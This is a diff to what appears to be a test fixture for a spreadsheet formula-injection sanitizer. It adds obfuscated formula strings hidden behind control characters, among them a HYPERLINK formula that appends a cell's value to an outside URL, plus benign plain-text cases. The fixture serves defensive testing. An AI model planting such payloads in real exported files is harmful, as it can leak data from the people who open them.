@@ -21,6 +21,9 @@ export const HIDDEN_FORMULAS = [
   '\u200d\u200c-1', // zero-width joiner and non-joiner
   '\u2060@x', // word joiner
   '\u202e=1', // right-to-left override
+  '\u001c=HYPERLINK("http://x/?"&A1)', // other control characters: Python's strip() drops U+001C-001F
+  '\u001f+1+cmd',
+  '\u0001=1+1', // Java's trim() drops everything up to U+0020
   ' \t\u200b =HYPERLINK("http://x","y")', // mixed run
   '＝1+1', // full-width = + - @
   '＋1',
@@ -50,4 +53,5 @@ export const PLAIN_TEXT = [
   '',
   '   ',
   '\u200b',
+  '\u001cplain', // a control character before ordinary text
 ];
